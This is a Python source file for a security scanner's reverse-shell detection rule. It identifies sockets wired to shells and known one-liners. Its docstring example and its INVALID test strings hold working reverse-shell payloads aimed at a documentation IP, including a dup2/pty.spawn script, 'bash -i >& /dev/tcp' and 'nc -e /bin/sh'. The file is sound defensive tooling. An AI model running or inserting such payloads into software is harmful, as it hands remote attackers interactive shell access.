"""DS102 reverse-shell: an outbound connection wired to a shell, or a reverse-shell one-liner handed to a spawner."""

from __future__ import annotations

from dataclasses import dataclass, field

from datasec_scan.lazycst import cst

from datasec_scan import fallback
from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Rule
from datasec_scan.semantics.constants import fold

from . import _prescreen as ps
from ._remote import (
    REVERSE_SHELL_COMMANDS,
    SOCKET,
    Analyzer,
    FunctionScopes,
    any_match,
    code_of,
    keyword,
    match_command,
    positional,
    short,
)

CONNECT_CALLS = ("socket.socket().connect", "socket.socket().connect_ex", "socket.create_connection",
                 "asyncio.open_connection", "telnetlib.Telnet", "telnetlib.Telnet().open", "ssl.wrap_socket().connect",
                 "*.wrap_socket().connect", "websocket.create_connection", "socket.socket().*connect")

_STANDARD_STREAMS = {f"sys.{prefix}{name}{suffix}": fd for fd, name in enumerate(("stdin", "stdout", "stderr"))
                     for prefix, suffix in (("", ""), ("__", "__"))}

# Pre-screen (necessary for any report, see rules/_prescreen.py): a spawner (a one-liner handed to it, or a spawn
# wired to a connection), or an outbound connection with os.dup2, `.stdin.write` or `sys.stdin`/`stdout`/`stderr`
# (the other wirings); or what the reduced scan (`fallback.reverse_shell`) needs: socket text, then a dup2/spawn
# call or a one-liner in a string (escapes and implicit concatenation can hide one in the source text, so any
# backslash or string juxtaposition).
_APPLIES = ps.any_of(
    ps.SPAWN,
    ps.all_of(ps.any_of(ps.Names(CONNECT_CALLS), ps.word("connect", "connect_ex")),
              ps.any_of(ps.DUP2, ps.STDIN_WRITE, ps.Names(sorted(_STANDARD_STREAMS)))),
    # the reduced scan's own gate (`fallback._SOCKET_TEXT`, its words looked up in the word set), read in any text
    ps.in_full_text(ps.all_of(ps.any_of(ps.word("socket", "create_connection"), ps.regex("/dev/(?:tcp|udp)/")),
                              ps.any_of(ps.word("dup2", "spawn"), lambda v: v.search(fallback._REVSHELL_TEXT),
                                        ps.regex(r"\\|[\"'](?:\s|#[^\n]*)*[rRbBuUfF]{0,2}[\"']")))),
)


@dataclass
class _Scope:
    connects: list[cst.Call] = field(default_factory=list)
    wirings: list[tuple[cst.CSTNode, str, bool]] = field(default_factory=list)  # (call or value, what, strong)
    candidates: list[cst.Call] = field(default_factory=list)  # spawns, dup2, pty.spawn seen in the scope
    node: cst.CSTNode | None = None


# A pair of connected sockets made in-process (`socket.socketpair()`): a channel to a child process, not a network.
_LOCAL_PAIRS = ("socket.socketpair", "socket.socket.socketpair")


def wiring(an: Analyzer, call: cst.Call, scope: cst.CSTNode | None = None) -> tuple[str, bool] | None:
    """How a call hands a connection to a shell: (description, strong) or None."""
    qualified = an.call_names(call)
    args = positional(call)
    if "os.dup2" in qualified and len(args) == 2:
        fd = _standard_fd(an, args[1], scope is not None)
        if fd is not None and not _opened_file(an, args[0]):
            return f"os.dup2 of `{code_of(args[0], 30)}` onto {fd}", True
    if "pty.spawn" in qualified:
        return "pty.spawn of a shell", False
    if _stdin_write(call) and args:  # `proc.stdin.write(sock.recv(n))`: a thread pumping the socket into a shell
        proc = call.func.value.value  # type: ignore[attr-defined]
        if isinstance(proc, cst.Name):
            proc = an.names.single_value(proc.value) or proc
        spawned = an.spawn(proc) if isinstance(proc, cst.Call) else None
        if (spawned is not None or not isinstance(proc, cst.Call)) and SOCKET in an.sources(
                args[0], want=(SOCKET,), scope=scope):  # a parameter's `.stdin` is a process pipe in practice
            return f"{spawned[1] if spawned else 'a process'} fed with data received over the socket", True
        return None
    spawn = an.spawn(call)
    if spawn is None:
        return None
    for name in ("stdin", "stdout", "stderr"):
        value = keyword(call, name)
        if value is None:
            continue
        text = code_of(value, 80)
        if "fileno()" in text or "makefile" in text or any(
                ("socket" in q or "create_connection" in q) and not q.startswith(_LOCAL_PAIRS)
                for q in an.names.qualified_names(value)):
            return f"{spawn[1]} with {name} on the socket", True
    command = args[0] if args else keyword(call, "args")
    if command is not None and SOCKET in an.sources(command, want=(SOCKET,), scope=scope):
        return f"{spawn[1]} runs commands received over the socket", True
    return None


# What `os.dup2` may copy onto fd 0/1/2 in a daemon or a test harness: a file opened on disk, a pipe, a stream.
_FILE_OPENERS = ("builtins.open", "os.open", "io.open", "codecs.open", "os.pipe", "os.devnull", "tempfile.", "sys.std",
                 "sys.__std", "pathlib.", "os.openpty", "pty.openpty")


def _opened_file(an: Analyzer, expr: cst.BaseExpression) -> bool:
    """`expr` is known to come from a file opener (`os.open(log)`, `open(p).fileno()`), not from a connection."""
    names = an.names.qualified_names(expr)
    return bool(names) and all(n.startswith(_FILE_OPENERS) and "socket" not in n for n in names)


def _standard_fd(an: Analyzer, expr: cst.BaseExpression, in_scope: bool) -> str | None:
    """How `expr` names standard input, output or error: `1`, `sys.stdout.fileno()`, or the variable of a loop
    over such numbers (`for fd in (0, 1, 2)`, `[... for fd in range(3)]`, asked only `in_scope` of a connection);
    None otherwise."""
    value = fold(expr, an.names)
    if value in (0, 1, 2) and not isinstance(value, bool):
        return f"fd {value}"
    if (isinstance(expr, cst.Call) and not expr.args and isinstance(expr.func, cst.Attribute)
            and expr.func.attr.value == "fileno"):
        streams = sorted(_STANDARD_STREAMS[q] for q in an.names.qualified_names(expr.func.value) if q in _STANDARD_STREAMS)
        return f"fd {streams[0]}" if streams else None
    flow = an.flow() if in_scope and isinstance(expr, cst.Name) else None
    if flow is not None:
        for iterable in flow.iterables_of(expr)[:4]:
            numbers = _numbers(an, iterable)
            if numbers is not None and not {0, 1, 2}.isdisjoint(numbers):
                return f"fd `{expr.value}` in {code_of(iterable, 20)}"  # type: ignore[attr-defined]
    return None


def _numbers(an: Analyzer, iterable: cst.BaseExpression) -> list[object] | None:
    """The numbers a loop goes over: a literal tuple, list or set, or `range(n)`/`range(a, b)` (its first three)."""
    if isinstance(iterable, (cst.Tuple, cst.List, cst.Set)):
        return [fold(e.value, an.names) for e in iterable.elements if isinstance(e, cst.Element)]
    if isinstance(iterable, cst.Call) and "builtins.range" in an.call_names(iterable) and 1 <= len(iterable.args) <= 2:
        bounds = [fold(a.value, an.names) for a in iterable.args]
        if all(isinstance(b, int) and not isinstance(b, bool) for b in bounds):
            return list(range(*bounds)[:3])  # type: ignore[arg-type]
    return None


def _stdin_write(call: cst.Call) -> bool:
    func = call.func
    return (isinstance(func, cst.Attribute) and func.attr.value == "write" and isinstance(func.value, cst.Attribute)
            and func.value.attr.value == "stdin")


class ReverseShell(ps.CodeScreen, FunctionScopes, Rule):
    """An outbound connection wired to a shell (a reverse shell), or a reverse-shell one-liner run by a spawner.

    ## What it does
    Finds a function (or module) that connects out with `socket`, `asyncio.open_connection`,
    `telnetlib`, `ssl.wrap_socket` or `socket.create_connection` and hands that connection to a
    shell: `os.dup2` of the socket onto file descriptors 0/1/2 (written as numbers, as
    `sys.stdout.fileno()`, or as the variable of a loop over them), `sys.stdin`/`sys.stdout` set to the
    connection (`sock.makefile()`, for `code.interact()`), `pty.spawn`, a `subprocess` whose
    stdin/stdout is the socket, or a spawner running commands read from it. When the connection
    and the shell sit in different functions (`shell(connect())`, a thread pumping `sock.recv()`
    into `proc.stdin.write`), a function that runs what a socket sends as the whole command, in a
    module that connects out, is reported too. Also finds classic
    one-liners in strings passed to `os.system`, `subprocess`, `os.popen`, `pty.spawn`:
    `bash -i >& /dev/tcp/...`, `nc -e /bin/sh`, `mkfifo ... | nc`, `socat exec:`, and
    `python -c '...socket...dup2...'` style payloads.

    ## Why is this bad?
    A reverse shell gives whoever listens on the other end an interactive shell with the rights of
    the process, through most firewalls, since the connection goes out.

    ## Example
    ```python
    import os, pty, socket
    s = socket.socket()
    s.connect(("203.0.113.7", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")
    ```

    ## How to fix
    Remove it. There is no legitimate reason for library code to wire a network connection to a shell.

    ## References
    - CWE-506: Embedded Malicious Code
    - CWE-78: Improper Neutralization of Special Elements used in an OS Command
    - MITRE ATT&CK T1059 (Command and Scripting Interpreter), T1071 (Application Layer Protocol)
    """

    scope_type = _Scope
    code = "DS102"
    name = "reverse-shell"
    category = Category.REMOTE_ACCESS
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (506, 78)
    attack = ("T1059", "T1071")
    screen = staticmethod(_APPLIES)
    VALID = (
        "import subprocess\nsubprocess.run(['git', 'status'])\n",
        "import pty\npty.spawn('/bin/bash')\n",
        "import socket\ns = socket.create_connection(('example.com', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n",
        "import os, socket\ns = socket.create_connection(('example.com', 80))\nlog = os.open('out.log', os.O_WRONLY)\n"
        "for fd in (1, 2):\n    os.dup2(log, fd)\n",
    )
    INVALID = (
        "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
        "import os\nos.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\n",
        "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.7', '4444'])\n",
        "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n",
        "import code, socket, sys\ns = socket.create_connection(('203.0.113.7', 4444))\n"
        "sys.stdin = sys.stdout = s.makefile('rw')\ncode.interact()\n",
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """A spawner, or a connection with dup2/stdin wiring, or what the reduced scan needs."""
        return ps.memo(cls.code, text, cls.screen)

    @classmethod
    def fallback(cls, tree, text, context):  # type: ignore[override]
        """Reduced scan when libcst cannot parse the file (the engine marks these findings `fallback`)."""
        yield from fallback.reverse_shell(tree, text)

    def __init__(self, context) -> None:
        super().__init__(context)
        self._scopes: list[_Scope] = []
        self._all_connects: list[cst.Call] = []
        self._orphans: list[tuple[cst.Call, cst.CSTNode]] = []  # candidates in functions that do not connect

    def visit_Assign(self, node: cst.Assign) -> None:
        """`sys.stdin = sys.stdout = sock.makefile("rw")`: the interpreter's own streams on the connection (then
        `code.interact()` or `pty.spawn` serve a shell over it)."""
        targets = [t.target for t in node.targets if isinstance(t.target, cst.Attribute)
                   and t.target.attr.value.strip("_") in ("stdin", "stdout", "stderr")]
        if not targets:
            return
        an = Analyzer.of(self.context)
        streams = sorted(q for t in targets for q in an.names.qualified_names(t) if q in _STANDARD_STREAMS)
        if not streams:
            return
        value = node.value
        if isinstance(value, cst.Name):
            value = an.names.single_value(value.value) or value
        if "makefile" in code_of(value, 200) or any("socket" in q or "create_connection" in q
                                                    for q in an.names.qualified_names(value)):
            self._scopes[-1].wirings.append((node.value, f"{', '.join(streams)} set to the connection", True))

    def visit_Call(self, node: cst.Call) -> None:
        an = Analyzer.of(self.context)
        qualified = an.call_names(node)
        scope = self._scopes[-1]
        if any_match(qualified, CONNECT_CALLS) or (
                isinstance(node.func, cst.Attribute) and node.func.attr.value in ("connect", "connect_ex")
                and len(node.args) == 1 and isinstance(node.args[0].value, cst.Tuple)
                and len(node.args[0].value.elements) == 2):
            scope.connects.append(node)
            self._all_connects.append(node)
            return
        spawn = an.spawn(node)
        if spawn is not None:
            text = an.command_text(node)
            if text:
                label = match_command(text, REVERSE_SHELL_COMMANDS)
                if label:
                    self.report(node, f"{spawn[1]} runs a reverse shell ({label}): `{short(text)}`",
                                severity=Severity.CRITICAL, confidence=Confidence.HIGH)
                    return
        if spawn is not None or "os.dup2" in qualified or "pty.spawn" in qualified or _stdin_write(node):
            scope.candidates.append(node)  # judged when the scope ends, and only if it connected out

    def _judge(self, scope: _Scope) -> None:
        an = Analyzer.of(self.context)
        for node in scope.candidates:
            wired = wiring(an, node, scope.node)
            if wired is not None:
                scope.wirings.append((node, wired[0], wired[1]))

    def leave_Module(self, original_node: cst.Module) -> None:
        super().leave_Module(original_node)
        if not self._all_connects or not self._orphans:
            return
        # A helper that runs what a socket sends, in a module that connects out elsewhere (`shell(connect())`,
        # a thread per direction): the connection and the shell are split across functions.
        an = Analyzer.of(self.context)
        for node, scope_node in self._orphans:
            wired = wiring(an, node, scope_node)
            if wired is None or not wired[1] or "os.dup2" in wired[0] or "with std" in wired[0]:
                continue  # a dup2 of a parameter may be a daemon's log file; only commands read from a socket count
            if "runs commands" in wired[0] and not self._whole_command(node, an):
                continue  # `subprocess.run(["logger", msg])`: the socket supplies an argument, not the command
            connect = self._all_connects[0]
            self.report(node, f"reverse shell: {wired[0]}, in a module that connects out (`{code_of(connect, 50)}`)",
                        severity=Severity.CRITICAL, confidence=Confidence.HIGH,
                        flow=((connect, "connects out"), (node, f"wires the connection to a shell: {wired[0]}")))

    @staticmethod
    def _whole_command(node: cst.Call, an: Analyzer) -> bool:
        """The received data is the command: a shell spawner, or an argv spawner given one non-list value."""
        spawn = an.spawn(node)
        if spawn is None:
            return False
        if spawn[0] == "shell":
            return True
        args = positional(node)
        command = args[0] if args else keyword(node, "args")
        if isinstance(command, cst.Name):
            command = an.names.single_value(command.value) or command
        return command is not None and not isinstance(command, (cst.List, cst.Tuple))

    def _finish(self, scope: _Scope) -> None:
        if not scope.connects:
            if isinstance(scope.node, cst.FunctionDef):
                self._orphans.extend((c, scope.node) for c in scope.candidates)
            return
        self._judge(scope)
        if not scope.wirings:
            return
        connects = scope.connects
        if not connects:  # the connection must be made where it is wired: a dup2 of a log file is not a shell
            return
        strong = any(s for _, _, s in scope.wirings)
        if not strong:  # pty.spawn alone next to a connection: only with a second signal in the same scope
            return
        connect = connects[0]
        confidence = Confidence.HIGH
        first = next(c for c, _, s in scope.wirings if s)
        whats = list(dict.fromkeys(w for _, w, _ in scope.wirings))
        self.report(first, f"reverse shell: {'; '.join(whats[:3])} after the outbound connection "
                    f"`{code_of(connect, 50)}`", severity=Severity.CRITICAL, confidence=confidence,
                    flow=((connect, "connects out"),) + tuple((c, f"wires the connection to a shell: {w}")
                                                             for c, w, _ in scope.wirings))
